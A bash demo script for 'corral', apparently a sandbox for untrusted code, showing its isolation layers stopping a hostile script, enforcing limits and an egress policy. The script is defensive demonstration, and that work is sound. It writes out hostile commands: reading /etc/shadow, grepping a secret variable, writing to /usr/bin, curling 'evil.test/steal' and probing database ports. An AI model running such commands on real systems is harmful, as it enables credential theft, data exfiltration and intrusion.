#!/bin/bash
# demo.sh - what corral is for, in one minute: a hostile script tries the
# usual ways out, and each one is stopped by a named layer; then ordinary
# work runs fine.  `make demo` runs this.
set -u
CORRAL=${1:-build/corral}
WS=$(mktemp -d /tmp/corral-demo.XXXXXX)
# the parent groups the demo made go at the end, as check's and bench's do
. "$(dirname "$0")/../scripts/cgroup-parents.sh"
cg_parents_note
trap 'rm -rf "$WS"; cg_parents_remove demo' EXIT
chmod 755 "$WS"
echo "print('hello from the workspace')" > "$WS/hello.py"
echo "the host copy" > "$WS/notes.txt"
[ "$(id -u)" = 0 ] && chown -R 65534:65534 "$WS"

say() { printf '\n\033[1m%s\033[0m\n' "$*"; }

say "1. corral doctor: what this host gives the sandbox"
"$CORRAL" doctor

say "2. a hostile script, run with: corral run --workspace $WS -- sh -c '...'"
DEMO_SECRET=sk-live-123 "$CORRAL" run --workspace "$WS" --timeout 20 -- /bin/sh -c '
try() { printf "  %-40s" "$1"; shift; if out=$("$@" 2>&1); then echo "ESCAPED: $out"; else echo "stopped: $(echo "${out:-(nothing there)}" | tail -1 | cut -c1-70)"; fi; }
try "read the host shadow file"        cat /etc/shadow
try "read root'"'"'s home"                   ls /root
try "find the caller'"'"'s secret variable"   sh -c "env | grep DEMO_SECRET"
try "write to the host /usr"           sh -c "echo x > /usr/bin/evil"
try "signal the host shell (pid '$$')"  kill -0 '$$'
try "reach the network"                python3 -c "import socket; socket.create_connection((\"192.0.2.1\", 80), 1)"
try "mount a filesystem"               python3 -c "import ctypes,os,sys; l=ctypes.CDLL(None, use_errno=True); r=l.mount(b\"x\", b\"/tmp\", b\"tmpfs\", 0, None); sys.exit(r and os.strerror(ctypes.get_errno()))"
try "become root with unshare -r"       unshare -r true
try "change the workspace on the host" sh -c "echo pwned > notes.txt && false"
'
say "   the host copy of the workspace after the run:"
cat "$WS/notes.txt"

say "3. limits: a memory bomb under --memory 64M, a timeout of 1 s"
"$CORRAL" run --json --memory 64M -- /usr/bin/python3 -c 'x = bytearray(1 << 30)' |
	/usr/bin/python3 -c 'import json,sys; r=json.load(sys.stdin); print("  status:", r["status"], "-", r["reason"])'
"$CORRAL" run --json --timeout 1 -- /bin/sleep 60 |
	/usr/bin/python3 -c 'import json,sys; r=json.load(sys.stdin); print("  status:", r["status"], "-", r["reason"])'

say "4. ordinary work still works"
"$CORRAL" run --workspace "$WS" -- /bin/sh -c 'python3 hello.py && echo "int main(){return 0;}" > t.c && gcc t.c -o t && ./t && echo "  compiled and ran a C program" && git init -q && echo "  git init ok"'

say "5. egress by name: a server on this machine's loopback plays \"the internet\""
PORTFILE=$WS/port
/usr/bin/python3 "$(dirname "$0")/fixtures.py" http "$PORTFILE" >/dev/null 2>&1 &
SRV=$!
for _ in $(seq 1 100); do [ -s "$PORTFILE" ] && break; sleep 0.05; done
PORT=$(cat "$PORTFILE")
printf '{"network": {"mode": "proxy", "allow": ["pypi.test:%s"], "hosts": {"pypi.test": "127.0.0.1"}},\n "abort": {"max_distinct_denied_destinations": 3, "window_seconds": 10}}\n' "$PORT" > "$WS/net.json"
chmod 644 "$WS/net.json"
echo "  policy: allow pypi.test:$PORT only; halt after 3 distinct denied destinations"
"$CORRAL" run --json --policy "$WS/net.json" --events "$WS/events.jsonl" -- /bin/sh -c "
	curl -s http://pypi.test:$PORT/simple/
	curl -s http://evil.test/steal
	for p in 22 25 3306 5432 6379; do curl -s -m 2 http://db.internal.test:\$p/ >/dev/null; done
	sleep 10" | /usr/bin/python3 -c '
import json, sys
r = json.load(sys.stdin)
print("  stdout:", r["stdout"].strip().replace("\n", "\n          "))
print("  status:", r["status"], "-", r["reason"])
for d in r["denials"][:4]:
    print("  denied:", d["host"] + ":" + str(d["port"]), "-", d["reason"])'
kill "$SRV" 2>/dev/null; wait "$SRV" 2>/dev/null
echo "  the event log verifies:"; "$CORRAL" audit verify "$WS/events.jsonl" | sed 's/^/  /'

say "6. the daemon: one sandbox, many calls, frozen when idle"
SOCK=$WS/corral.sock
"$CORRAL" serve --socket "$SOCK" --state-dir "$WS/state" 2>/dev/null &
DAEMON=$!
for _ in $(seq 1 100); do [ -S "$SOCK" ] && break; sleep 0.05; done
export CORRAL_SOCKET=$SOCK
id=$("$CORRAL" create --idle-freeze 500ms --label demo=yes)
echo "  created $id"
"$CORRAL" exec --tool-call step-1 "$id" -- /bin/sh -c 'echo "  step 1 writes a file"; echo 42 > /workspace/answer'
"$CORRAL" exec --tool-call step-2 "$id" -- /bin/sh -c 'echo "  step 2 reads it: $(cat /workspace/answer)"'
sleep 1.2
echo "  after 1 s idle: $("$CORRAL" ls | awk -v id="$id" '$1 == id {print $2}')"
"$CORRAL" exec --tool-call step-3 "$id" -- /bin/sh -c 'echo "  step 3 thawed it transparently"'
"$CORRAL" halt "$id" --reason "the demo is over" > /dev/null
"$CORRAL" exec "$id" -- /bin/true 2>&1 | sed 's/^/  after the halt: /'
"$CORRAL" rm "$id" > /dev/null
kill -TERM "$DAEMON"; wait "$DAEMON" 2>/dev/null
echo "  the daemon's audit log: $("$CORRAL" audit verify "$WS/state/audit.jsonl")"
